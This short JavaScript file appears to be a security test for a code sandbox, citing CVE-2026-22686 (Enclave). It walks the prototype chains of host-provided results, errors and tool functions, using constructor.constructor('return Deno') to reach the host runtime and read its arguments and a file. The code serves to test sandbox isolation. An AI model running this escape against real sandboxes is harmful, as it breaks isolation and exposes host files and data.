// Tries: the constructors of values that came from the host: results, errors, the tools object and its functions.
// Origin: CVE-2026-22686 (Enclave): an error that the host made leads to the host's Function.

const loot = (D) => [D.args, D.readTextFileSync(input.file)];

const given = [await tools.echo({ value: { a: [1, new Date(0), new Map([[1, 2]])] } }), tools, tools.echo, tools.echo({ value: 1 })];
given.push(given[0].a, given[0].a[1], given[0].a[2]);
try {
  await tools.fail({ data: { x: 1 } });
} catch (error) {
  given.push(error, error.data, error.stack);
}
const found = [];
for (const value of given) {
  for (let place = value; place != null; place = Object.getPrototypeOf(place)) {
    try {
      found.push(loot(place.constructor.constructor("return Deno")()));
    } catch (error) {
      found.push(`${error}`);
    }
  }
}
return found;
